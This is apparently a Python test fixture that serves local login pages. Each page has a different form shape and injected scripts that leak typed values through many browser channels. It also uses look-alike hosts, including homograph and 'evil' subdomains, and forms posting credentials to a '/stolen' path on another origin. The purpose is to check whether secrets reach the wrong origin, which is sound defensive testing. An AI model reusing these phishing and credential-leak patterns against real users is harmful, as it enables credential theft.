"""Login pages: made from how a form is built and what the page does with what is typed.

`LoginPages` serves them, at a host and at others that look like it, and notes what each receives.
"""

from __future__ import annotations

import itertools
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler

from tests.site import Site, _send

# What a page does with a value when it is typed, given as `v`.
LEAKS = {
    "nothing": "",
    "text": "append(v)",
    "title": "document.title = v",
    "address": "history.replaceState(0, '', '#' + encodeURIComponent(v))",
    "query": "history.replaceState(0, '', '?q=' + encodeURIComponent(v))",
    "console": "console.log('typed', v, {inside: v})",
    "error": "setTimeout(() => { throw new Error('bad ' + v) })",
    "local storage": "localStorage.setItem('kept', v)",
    "session storage": "sessionStorage.setItem(v, v)",
    "cookie": "document.cookie = 'kept=' + encodeURIComponent(v)",
    "attribute": "document.body.setAttribute('aria-label', v)",
    "placeholder": "field('text').placeholder = v",
    "another field": "field('text').value = v",
    "reversed": "append([...v].reverse().join(''))",
    "base64": "append(btoa(unescape(encodeURIComponent('user:' + v))))",
    "hex": "append([...new TextEncoder().encode(v)].map(b => b.toString(16).padStart(2, 0)).join(''))",
    "url form": "append(encodeURIComponent(v))",
    "json": "append(JSON.stringify({v: JSON.stringify(v)}))",
    "entities": "append([...v].map(c => `&#${c.codePointAt(0)};`).join(''))",
    "letters": "append([...v].join(' '))",
    "underscores": "append([...v].join('_'))",
    "buttons": "[...v].forEach((c) => append(c, 'button'))",
    "object": "append(JSON.stringify({...v}, null, 4))",
    "codes": "append(JSON.stringify(new TextEncoder().encode(v)))",
    "wide letters": "append([...v].map(c => c > ' ' && c <= '~' ? String.fromCharCode(c.charCodeAt() + 65248) : c).join(''))",
    "unseen letters": "console.log(document.title = [...v].join('\u3164'))",
    "base64 twice": "append(btoa(btoa(unescape(encodeURIComponent(v)))))",
    "upper case": "append(v.toUpperCase())",
    "canvas": "draw(v)",
    "request": "fetch('/beacon?v=' + encodeURIComponent(v))",
    "header": "fetch('/beacon', {headers: {'X-Kept': encodeURIComponent(v)}})",
    "body": "fetch('/beacon', {method: 'POST', body: v})",
    "shadow": "shadow(v)",
    "button": "append(v, 'button')",
    "link": "append(v, 'a').href = '/?' + encodeURIComponent(v)",
    "data": "document.body.dataset.kept = v; append('x').title = v",
    "global": "window.kept = v; window.more = {a: [v]}",
    "style": "append('', 'style').textContent = `body::after { content: ${JSON.stringify(v)} }`",
    "drawing": "append('', 'div').innerHTML = '<svg><text y=20></text></svg>'; document.querySelector('svg text').textContent = v",
    "option": "append('', 'select').append(new Option(v))",
    "window name": "window.name = v",
    "inner document": "append('', 'iframe').srcdoc = v.replace(/[&<]/g, c => `&#${c.charCodeAt(0)};`)",
    "download": "const a = append('', 'a'); a.download = 'kept.txt'; a.href = URL.createObjectURL(new Blob([v])); a.click()",
    "worker": "new Worker(URL.createObjectURL(new Blob([`console.log(${JSON.stringify(v)})`])))",
    "socket": "new WebSocket(`ws://${location.host}/beacon?v=${encodeURIComponent(v)}`)",
    "database": "indexedDB.open(v)",
    "message": "postMessage(v); new BroadcastChannel('c').postMessage(v)",
    "dialog": "setTimeout(() => alert(v), 50)",
}
_SCRIPT = """<script>
  function append(text, tag = 'p') { const e = document.createElement(tag); e.textContent = text;
    document.body.append(e); return e }
  function field(type) { const e = append('', 'input'); e.type = type; return e }
  function draw(text) { const c = append('', 'canvas').getContext('2d'); c.fillText(text, 5, 20) }
  function shadow(text) { append('', 'div').attachShadow({mode: 'open'}).innerHTML = '<p></p>';
    document.body.lastChild.shadowRoot.firstChild.textContent = text }
  document.addEventListener('input', (event) => { const v = event.composedPath()[0].value; LEAK }, true);
</script>"""
_USER = "<label>E-mail <input name=user autocomplete=username></label>"
_PASSWORD = "<label>Password <input type=password name=pass></label>"
_CODE = "<label>Code <input name=otp autocomplete=one-time-code></label>"
_BUTTON = "<button>Log in</button>"
_FORM = f"<form method=post action=ACTION>{_USER}{_PASSWORD}{_BUTTON}</form>"
_HIDE = "document.querySelector('form').remove(); append('Welcome')"
_SPA = f"""<form onsubmit="event.preventDefault(); fetch('ACTION', {{method: 'POST', body: new URLSearchParams(
  new FormData(this))}}).then(() => {{ {_HIDE} }})">{_USER}{_PASSWORD}{_BUTTON}</form>"""
_STEPS = f"""<form method=post action=ACTION>{_USER}<span id=rest hidden>{_PASSWORD}</span>
  <button onclick="if (rest.hidden) {{ event.preventDefault(); rest.hidden = false }}">Next</button></form>"""
_DIGITS = "".join("<input maxlength=1 inputmode=numeric name=otp size=1>" for _ in range(8))
_DIV = f"""<div>{_USER}{_PASSWORD}<div role=button tabindex=0 onclick="fetch('ACTION', {{method: 'POST',
  body: new URLSearchParams({{user: document.querySelector('[name=user]').value,
  pass: document.querySelector('[name=pass]').value}})}}).then(() => {{ document.body.innerHTML = 'Welcome' }})"
  >Sign in</div></div>"""
_SHADOW = f"""<div id=host></div><script>host.attachShadow({{mode: 'open'}}).innerHTML = `{_FORM}`</script>"""
_SWAP = _FORM.replace("type=password", "type=password onfocus=\"location = 'OTHER'\"")

# Forms that may have the secret. ACTION is where this origin takes a login.
ALLOWED = {
    "plain": _FORM,
    "script": _SPA,
    "two steps": _STEPS,
    "two pages": f"<form method=post action=NEXT>{_USER}<button>Continue</button></form>",
    "code": f"<form method=post action=ASKS_CODE>{_USER}{_PASSWORD}{_BUTTON}</form>",
    "digits": f"<form method=post action=ASKS_DIGITS>{_USER}{_PASSWORD}{_BUTTON}</form>",
    "frame": "<iframe src='INNER' width=600 height=300></iframe>",
    "shadow": _SHADOW,
    "no form": _DIV,
    "hidden action": _FORM.replace(
        "<label>", "<input type=hidden name=action value='OTHER'><label>", 1
    ),
    "redirect": _FORM.replace("ACTION", "REDIRECT"),
    "shown password": _FORM.replace("type=password", "type=text autocomplete=current-password", 1),
}
# Forms that may not. OTHER is where the other origin takes one.
REFUSED = {
    "other host": _FORM,
    "action elsewhere": _FORM.replace("ACTION", "OTHER"),
    "button elsewhere": _FORM.replace(
        "<button>", "<button>Log in</button><button formaction='OTHER'>"
    ),
    "picture elsewhere": _FORM.replace(
        "<button>", "<input type=image alt=x formaction='OTHER'><button>"
    ),
    "outer button elsewhere": _FORM.replace("<form", "<form id=f")
    + "<button form=f formaction='OTHER'>Go</button>",
    "base elsewhere": "<base href='OTHER'>" + _FORM.replace("ACTION", "login"),
    "foreign frame": "<iframe src='OTHER_PAGE' width=600 height=300></iframe>",
    "framed by another": "<iframe src='INNER' width=600 height=300></iframe>",
    "sandbox": "<iframe src='INNER' sandbox='allow-scripts allow-forms' width=600 height=300></iframe>",
    "script action": _FORM.replace("action=ACTION", "action='javascript:void(0)'"),
    "redirected page": "",
    "plain text": f"<form method=post action=ACTION><textarea name=pass aria-label=Password></textarea>{_BUTTON}</form>",
}
# Pages that go away while they are filled: what was typed before may have come to the first one.
EITHER = {"leaves on focus": _SWAP}
_ELSEWHERE = ("other host", "framed by another", "redirected page")
# A dialog may open before all is typed.
STOPS = "dialog"
HOST = "shop.localhost"
# Hosts that are not the one, with what each browser makes of them; {port} is the site's.
LOOK_ALIKES = (
    "localhost:{port}",
    "127.0.0.1:{port}",
    "shop.localhost:{other_port}",
    "sh0p.localhost:{port}",
    "shop.localhost.:{port}",
    "shop.localhost.evil.localhost:{port}",
    "login.shop.localhost:{port}",
    "shop-localhost.localhost:{port}",
    "xshop.localhost:{port}",
    # With a Cyrillic o, as browsers write it.
    "xn--shp-ted.localhost:{port}",
    "shop.localhost@localhost:{port}",
)


def _pairs(seed: int) -> Iterator[tuple[str, str]]:
    """Yield every shape with every leak; each of both is among the first ones."""
    chance = random.Random(seed)
    shapes, leaks = [*ALLOWED, *REFUSED, *EITHER], [*LEAKS]
    chance.shuffle(leaks)
    most = max(len(shapes), len(leaks))
    first = [(shapes[n % len(shapes)], leaks[n % len(leaks)]) for n in range(most)]
    rest = [pair for pair in itertools.product(shapes, leaks) if pair not in first]
    chance.shuffle(rest)
    return itertools.chain(first, rest)


@dataclass(frozen=True)
class LoginPage:
    """A page to log in on."""

    shape: str
    leak: str
    allowed: bool
    url: str


class LoginPages:
    """Serves login pages, and notes what arrives where.

    Args:
        site: Serves the host that the secret belongs to, and those that look like it.
        other: Serves the same host at another port.
    """

    def __init__(self, site: Site, other: Site) -> None:
        self.site, self._other_site = site, other
        self.received: list[tuple[str, str]] = []
        self.origin = f"http://{HOST}:{site.port}"
        ports = {"port": site.port, "other_port": other.port}
        self._look_alikes = itertools.cycle(
            f"http://{host.format(**ports)}" for host in LOOK_ALIKES
        )
        self._elsewhere = next(self._look_alikes)
        self._action = self._here(site.route(self._takes("Welcome")))
        self._redirect = self._here(site.route(self._redirects(self._action)))
        for each in (site, other):
            each.serve("/beacon", self._takes("ok"))
            for path in ("/stolen", "/login"):
                each.serve(path, self._takes("Stolen"))

    def make(self, shape: str, leak: str) -> LoginPage:
        """Serve a page of a shape that does something with what is typed."""
        self._elsewhere = next(self._look_alikes)
        html = self._filled({**ALLOWED, **REFUSED, **EITHER}[shape], leak)
        if shape == "redirected page":
            target = self._there(self._filled(_FORM, leak))
            url = self._here(self.site.route(self._redirects(target)))
        else:
            url = self._there(html) if shape in _ELSEWHERE else self._here(self.site.page(html))
        return LoginPage(shape, leak, shape in ALLOWED, url)

    def some(self, count: int, seed: int = 1, first: int = 0) -> Iterator[LoginPage]:
        """Serve so many pages from one on: all shapes and all leaks first, no pair of them twice."""
        for shape, leak in itertools.islice(_pairs(seed), first, first + count):
            yield self.make(shape, leak)

    def arrived_elsewhere(self) -> str:
        """Return all that came to origins that may have nothing."""
        return "\n".join(text for origin, text in self.received if origin != self.origin)

    def arrived(self) -> str:
        """Return all that came to the origin that may have the secret."""
        return "\n".join(text for origin, text in self.received if origin == self.origin)

    def _here(self, url: str) -> str:
        """Return where the secret's own host has what the site serves."""
        return url.replace(self.site.origin, self.origin)

    def _there(self, html: str) -> str:
        """Serve a document where the secret may not be, and return its URL."""
        url = self.site.page(html)
        path = url.removeprefix(self.site.origin)
        self._other_site.serve(path, lambda handler: _send(handler, html.encode()))
        return self._elsewhere + path

    def _filled(self, html: str, leak: str) -> str:
        script = _SCRIPT.replace("LEAK", LEAKS[leak])
        whole = f"<!doctype html><title>Log in</title><body>{script}{html}"
        words: dict[str, Callable[[], str]] = {
            "ASKS_CODE": lambda: self._asks(_CODE, leak),
            "ASKS_DIGITS": lambda: self._asks(_DIGITS, leak),
            "NEXT": lambda: self._asks(_PASSWORD, leak),
            "INNER": lambda: self._here(self.site.page(self._filled(_FORM, leak))),
            "OTHER_PAGE": lambda: self._there(self._filled(_FORM, leak)),
            "REDIRECT": lambda: self._redirect,
            "OTHER": lambda: f"{self._elsewhere}/stolen",
            "ACTION": lambda: self._action,
        }
        for word, make in words.items():
            whole = whole.replace(word, make()) if word in whole else whole
        return whole

    def _asks(self, field: str, leak: str) -> str:
        """Return where a step is taken, which asks for something more."""
        form = f"<form method=post action=ACTION>{field}<button>Verify</button></form>"
        return self._here(self.site.route(self._takes(self._filled(form, leak))))

    def _takes(self, answer: str) -> _Respond:
        return _Respond(self, answer)

    def _redirects(self, url: str) -> _Respond:
        return _Respond(self, url, status=303)


class _Respond:
    """Notes a request, and answers it."""

    def __init__(self, pages: LoginPages, answer: str, status: int = 200) -> None:
        self._pages, self._answer, self._status = pages, answer, status

    def __call__(self, handler: BaseHTTPRequestHandler) -> None:
        origin = f"http://{handler.headers['Host']}"
        body = getattr(handler, "body", b"").decode(errors="replace")
        self._pages.received.append((origin, f"{handler.path}\n{handler.headers}\n{body}"))
        if self._status == 303:
            handler.send_response(303)
            handler.send_header("Location", self._answer)
            handler.send_header("Content-Length", "0")
            handler.end_headers()
        else:
            _send(handler, self._answer.encode(), self._status)
